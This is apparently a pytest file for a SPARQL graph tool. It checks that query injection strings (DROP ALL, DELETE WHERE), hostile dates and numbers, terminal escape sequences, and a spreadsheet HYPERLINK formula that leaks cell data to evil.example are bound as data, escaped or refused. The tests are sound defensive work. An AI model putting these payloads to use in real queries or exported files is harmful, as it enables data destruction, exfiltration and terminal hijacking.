"""Hostile parameter values are bound as data or refused: they never change a query's shape or the data."""
from __future__ import annotations

import uuid

import pytest
from pyparsing import ParseResults
from rdflib import Literal, Variable
from rdflib.plugins.sparql.algebra import translateQuery
from rdflib.plugins.sparql.parser import parseQuery

import pgraph
from conftest import MINI, assert_user_error, run_cli
from pgraph.push import count_remote, push

HOSTILE = [
    '" } ; DROP ALL #',
    "peace' . ?s ?p ?o",
    'a > b',
    '} } SELECT * WHERE { ?s ?p ?o',
    'first line\nsecond line } \r\n#',
    '# a comment',
    'Ünïcödé 北约 партнёрство 🚀',
    'DELETE WHERE { ?s ?p ?o }',
    'INSERT DATA { <x:a> <x:b> <x:c> }',
    '\\" \\u0022 \\\\',
    'back\\slash \\n \\t \\\\',
    '""" \'\'\' \'',
    '<https://w3id.org/pgraph/id/instrument/pfp>',
    '?text',
    '\x00\x01\x7f',
]


def _refused(value: str) -> bool:
    """NUL is not allowed in SPARQL text; a backslash-u is read differently by different engines."""
    return "\x00" in value or "\\u" in value


def _shape(node):
    """The algebra with every literal replaced by its datatype: what a value must not change."""
    if isinstance(node, Literal):
        return ("literal", node.datatype)
    if isinstance(node, dict):
        return tuple(sorted(((str(k), _shape(v)) for k, v in node.items()), key=lambda kv: kv[0]))
    if isinstance(node, (list, tuple, set, frozenset)):
        return tuple(_shape(v) for v in node)
    return repr(node) if isinstance(node, Variable) else str(node) if not hasattr(node, "items") else _shape(dict(node))


def _algebra(text: str):
    return translateQuery(parseQuery(text)).algebra


def _bound_literals(node, name: str) -> list[Literal]:
    """Every value the VALUES blocks give to ?name, found in the algebra."""
    found = []
    if isinstance(node, dict) or hasattr(node, "items"):
        for key, value in dict(node).items():
            if key == Variable(name) and isinstance(value, Literal):
                found.append(value)
            else:
                found += _bound_literals(value, name)
    elif isinstance(node, (list, tuple)):
        for value in node:
            found += _bound_literals(value, name)
    return found


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_string_is_bound_as_one_literal_and_leaves_the_query_shape_unchanged(real, value):
    if _refused(value):
        with pytest.raises(pgraph.ParameterError):
            real.catalog.get("search").bound({"text": value})
        return
    saved = real.catalog.get("search")
    benign = _algebra(saved.bound({"text": "peace"}))
    hostile = _algebra(saved.bound({"text": value}))
    assert _shape(hostile) == _shape(benign)
    assert {str(x) for x in _bound_literals(hostile, "text")} == {value}


@pytest.mark.parametrize("value", [v for v in HOSTILE if not _refused(v)])
def test_a_hostile_string_finds_only_names_that_contain_it_and_changes_nothing(real, value):
    before = len(real.backend)
    rows = real.query("search", text=value)
    assert all(value.casefold() in str(r["matched"]).casefold() for r in rows)
    assert len(real.backend) == before


@pytest.mark.parametrize("value", ["2024-01-01 } ; DROP ALL", '2024-01-01"^^<x:y>', "2024-01-01\n#", "today }"])
def test_hostile_dates_are_refused(real, value):
    with pytest.raises(pgraph.ParameterError):
        real.query("overlap", asOf=value)


@pytest.mark.parametrize("param,value", [("minShared", "2 } DROP ALL"), ("minShared", "0x10"),
                                         ("minShared", "1e3"), ("minShared", "٣")])
def test_hostile_numbers_are_refused(real, param, value):
    with pytest.raises(pgraph.ParameterError):
        real.query("overlap", **{param: value})


@pytest.fixture(scope="module")
def served(oxigraph_server, real):
    graph = f"https://w3id.org/pgraph/graph/injection-{uuid.uuid4()}"
    push(real.backend, oxigraph_server + "/store", graph=graph)
    return pgraph.connect(oxigraph_server + "/query", graph=graph), graph


@pytest.mark.parametrize("value", [v for v in HOSTILE if not _refused(v)])
def test_on_a_real_server_a_hostile_string_gives_the_embedded_answer_and_changes_nothing(served, real, value):
    remote, _ = served
    before = count_remote(remote)
    assert remote.query("search", text=value) == real.query("search", text=value)
    assert count_remote(remote) == before


def test_on_a_real_server_the_cli_binds_hostile_text_and_refuses_updates(served, oxigraph_server):
    remote, graph = served
    before = count_remote(remote)
    endpoint = ["--endpoint", oxigraph_server + "/query", "--graph", graph]
    result = run_cli("query", "search", "-p", 'text=" } ; DROP ALL #', "--format", "csv", *endpoint)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == ["id,kind,name,matched"]
    assert_user_error(run_cli("sparql", "DROP ALL", *endpoint), "updates are refused")
    assert_user_error(run_cli("sparql", f"CLEAR GRAPH <{graph}>", *endpoint), "updates are refused")
    assert count_remote(remote) == before


# --- data text that could act as code where it lands (issue 17) -----------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
ESCAPES = "Mediterranean\x1b]0;pwned\x07\x1b[2J\x9b31m Dialogue"


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    """The mini graph with one label that is a spreadsheet formula and one full of terminal escapes."""
    folder = tmp_path_factory.mktemp("hostile")
    text = (MINI / "graph.ttl").read_text(encoding="utf-8")
    turtle_escapes = "".join(c if c.isprintable() else f"\\u{ord(c):04X}" for c in ESCAPES)
    for old, new in (('"Partnership for Peace"@en', '"' + FORMULA.replace('"', '\\"') + '"@en'),
                     ('"Mediterranean Dialogue"@en', f'"{turtle_escapes}"@en')):
        assert old in text
        text = text.replace(old, new)
    (folder / "graph.ttl").write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_csv_and_tsv_guard_formulas_and_json_keeps_the_original(hostile_data, fmt, delimiter):
    import csv
    import json
    result = run_cli("--data", str(hostile_data), "query", "instruments", "-f", fmt)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(result.stdout.splitlines(), delimiter=delimiter))
    labels = {r["instrument"]: r["label"] for r in rows}
    assert labels["pfp"] == "'" + FORMULA  # shown as text by Excel, LibreOffice and Sheets
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    as_json = run_cli("--data", str(hostile_data), "query", "instruments", "-f", "json")
    kept = {r["instrument"]: r["label"] for r in json.loads(as_json.stdout)}
    assert kept["pfp"] == FORMULA and kept["md"] == ESCAPES  # JSON keeps the data as it is


def test_export_csv_guards_formulas_and_json_keeps_the_original(hostile_data, tmp_path):
    import csv
    import json
    for ext in ("csv", "json"):
        result = run_cli("--data", str(hostile_data), "export", "overlap", "--as-of", "2020-01-01",
                         "-o", str(tmp_path / f"overlap.{ext}"))
        assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader((tmp_path / "overlap.csv").read_text(encoding="utf-8").splitlines()))
    cells = [v for r in rows for v in r.values()]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    nodes = json.loads((tmp_path / "overlap.json").read_text(encoding="utf-8"))["nodes"]
    assert FORMULA in {n.get("label") for n in nodes}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_every_formula_start_is_guarded(text):
    from pgraph.output import for_spreadsheet
    assert for_spreadsheet(text).startswith("'") and for_spreadsheet("NATO") == "NATO"


LABELS = "CONSTRUCT WHERE { ?s <http://www.w3.org/2000/01/rdf-schema#label> ?o }"


@pytest.mark.parametrize("args,shown", [
    (["query", "instruments"], "Mediterranean\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m Dialogue"),
    (["query", "instruments", "-f", "md"], "Mediterranean\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m Dialogue"),
    (["query", "instruments", "-f", "csv"], "Mediterranean\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m Dialogue"),
    (["query", "instruments", "-f", "json"], "Mediterranean\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m Dialogue"),
    (["sparql", LABELS], "Mediterranean\\u001B]0;pwned\\u0007\\u001B[2J\\u009b31m Dialogue"),
    (["export", "overlap", "--as-of", "2020-01-01"], "Mediterranean\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m"),
    (["query", "members", "-p", "instrument=\x1b]0;pwned\x07\x9b2J"], "'\\x1b]0;pwned\\x07\\x9b2J'")])
def test_terminal_escapes_in_labels_never_reach_the_terminal(hostile_data, args, shown):
    result = run_cli("--data", str(hostile_data), *args)
    assert result.returncode in (0, 2), result.stderr
    for raw in ("\x1b", "\x07", "\x9b"):
        assert raw not in result.stdout and raw not in result.stderr
    assert shown in (result.stdout if result.returncode == 0 else result.stderr)  # escaped, and visible


def test_graphml_and_gexf_with_control_characters_are_written_parseable(hostile_data, tmp_path):
    import xml.etree.ElementTree as ET
    import igraph
    import networkx as nx
    for ext in ("graphml", "gexf", "dot"):
        result = run_cli("--data", str(hostile_data), "export", "overlap", "--as-of", "2020-01-01",
                         "-o", str(tmp_path / f"overlap.{ext}"))
        assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    ET.parse(tmp_path / "overlap.gexf")
    labels = set(igraph.Graph.Read_GraphML(str(tmp_path / "overlap.graphml")).vs["label"])
    assert "Mediterranean\\x1b]0;pwned\\x07\\x1b[2J\x9b31m Dialogue" in labels  # XML 1.0 holds C1, not ESC
    gexf = nx.read_gexf(tmp_path / "overlap.gexf")
    assert FORMULA in {d.get("label") for _, d in gexf.nodes(data=True)}


# --- variables found by a SPARQL tokenizer, not a regular expression (issue 17) --------------------

def test_a_parameter_next_to_less_than_and_ampersands_is_bound(tmp_path):
    query = tmp_path / "below.rq"
    query.write_text("#+ name: below\n#+ summary: numbers between 0 and n\n"
                     "#+ params:\n#+   n: {type: xsd:integer, required: true}\n"
                     "SELECT ?i WHERE { VALUES ?i { 1 2 3 4 5 } FILTER(?i<?n&&?i>0) } ORDER BY ?i\n",
                     encoding="utf-8")
    result = run_cli("--data", str(MINI), "query", str(query), "-p", "n=3", "-f", "csv")
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["i", "1", "2"]


def test_the_tokenizer_finds_the_variables_rdflibs_parser_finds_in_every_saved_query(real):
    from pgraph.store import variables
    for saved in real.catalog:
        found = set()

        def walk(node):
            if isinstance(node, Variable):
                found.add(str(node))
            elif isinstance(node, ParseResults):
                for v in list(node) + list(node.as_dict().values()):
                    walk(v)
            elif isinstance(node, dict):
                for v in node.values():
                    walk(v)
            elif isinstance(node, (list, tuple)):
                for v in node:
                    walk(v)
        walk(parseQuery(saved.sparql))
        assert variables(saved.sparql) == found, saved.name


@pytest.mark.parametrize("fmt", ["text", "md"])
def test_validation_reports_show_escapes_in_labels_and_never_send_them(tmp_path, fmt):
    data = tmp_path / "data"
    data.mkdir()
    text = (MINI / "graph.ttl").read_text(encoding="utf-8")
    (data / "graph.ttl").write_text(text + '\ninst:evil a pg:Initiative ; dcterms:identifier "evil" ; '
                                    'rdfs:label "Evil\\u001B]0;pwned\\u0007\\u001B[2J"@en .\n', encoding="utf-8")
    result = run_cli("--data", str(data), "validate", "--format", fmt, env={"PGRAPH_CACHE": "off"})
    assert result.returncode == 1, result.stderr  # the new instrument lacks a source and dates
    assert "Evil\\x1b]0;pwned\\x07\\x1b[2J" in result.stdout
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
